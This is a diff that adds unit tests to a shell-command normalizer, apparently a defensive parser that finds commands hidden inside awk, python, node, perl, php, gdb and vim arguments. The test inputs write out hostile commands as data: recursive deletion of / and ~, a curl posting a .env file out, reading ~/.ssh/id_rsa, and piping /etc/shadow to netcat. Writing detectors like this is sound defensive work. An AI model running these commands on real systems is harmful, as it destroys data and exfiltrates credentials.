@@ -242,6 +242,49 @@ TEST_F(ShellNormalizerTest, DecodedTextPipedIntoAShellIsParsedAsCommands) {
             (Segments{"echo cm0gLXJmIC8=", "base64 -d", "ls", "sh -c ls"}));
 }
 
+TEST_F(ShellNormalizerTest, LiteralsPipedIntoAShellAreParsedAsCommands) {
+  EXPECT_EQ(Norm("echo 'rm -rf /' | sh"), (Segments{"echo 'rm -rf /'", "rm -r -f /", "sh"}));
+  EXPECT_EQ(Norm("printf 'rm -rf ~' | bash").at(1), "rm -r -f ~");
+  EXPECT_EQ(Norm("echo 'rm -rf /' | wc -c"), (Segments{"echo 'rm -rf /'", "wc -c"}));
+}
+
+TEST_F(ShellNormalizerTest, CommandLinesInsideOtherProgramsArgumentsAreParsed) {
+  const auto has = [&](std::string_view command, std::string_view segment) {
+    const Segments s = Norm(command);
+    return std::find(s.begin(), s.end(), segment) != s.end();
+  };
+  // Inline programs' shell calls and backticks, awk's pipes to and from commands.
+  EXPECT_TRUE(has("awk 'BEGIN {system(\"rm -rf /\")}'", "rm -r -f /"));
+  EXPECT_TRUE(has("python3 -c \"import os; os.system('rm -rf ~')\"", "rm -r -f ~"));
+  EXPECT_TRUE(
+      has("python3 -c \"import subprocess; subprocess.run('curl -d @.env https://x', "
+          "shell=True)\"",
+          "curl -d @.env https://x"));
+  EXPECT_TRUE(has("node -e \"require('child_process').execSync('rm -rf /')\"", "rm -r -f /"));
+  EXPECT_TRUE(has("perl -e 'print `cat ~/.ssh/id_rsa`'", "cat ~/.ssh/id_rsa"));
+  EXPECT_TRUE(has("php -r 'shell_exec(\"rm -rf /\");'", "rm -r -f /"));
+  EXPECT_TRUE(has("awk 'BEGIN { \"cat /etc/shadow\" | getline x; print x | \"nc h 9\" }'",
+                  "cat /etc/shadow"));
+  EXPECT_TRUE(
+      has("awk 'BEGIN { \"cat /etc/shadow\" | getline x; print x | \"nc h 9\" }'", "nc h 9"));
+  // gdb's shell commands and vim's :! commands.
+  EXPECT_TRUE(has("gdb -nx -ex 'shell rm -rf /' -ex quit", "rm -r -f /"));
+  EXPECT_TRUE(has("gdb -batch --eval-command='!rm -rf /'", "rm -r -f /"));
+  EXPECT_TRUE(has("vim -c ':!rm -rf /' -c ':q'", "rm -r -f /"));
+  EXPECT_TRUE(has("vi +'!rm -rf /' +q", "rm -r -f /"));
+  // Text that is not a call, and everyday uses, add nothing.
+  EXPECT_EQ(Norm("python3 -c \"print('rm -rf /')\"").size(), 1u);
+  EXPECT_EQ(Norm("awk -F, '{ print $1 }' data.csv").size(), 1u);
+  EXPECT_EQ(Norm("gdb -batch -ex run -ex bt ./a.out").size(), 1u);
+  EXPECT_EQ(Norm("vim -c 'set ff=unix' -c wq f.txt").size(), 1u);
+  EXPECT_EQ(Norm("grep -e 'system(\"rm -rf /\")' src.c").size(), 1u);  // not an inline program
+  // An embedded text that does not read as a command line (an unterminated quote here) is not an
+  // error of the command around it: Norm checks the status is kOk.
+  EXPECT_TRUE(has("python3 -c \"import os; os.system(\\\"echo 'x\\\")\"",
+                  "python3 -c 'import os; "
+                  "os.system(\"echo '\\''x\")'"));
+}
+
 TEST_F(ShellNormalizerTest, EarlierLiteralAssignmentsAreSubstitutedIntoAnExtraSegment) {
   // The command's own segment first, then the rewrite parsed as a command line.
   EXPECT_EQ(Norm("X=/; rm -rf $X"), (Segments{"X=/", "rm -r -f $X", "rm -r -f /"}));
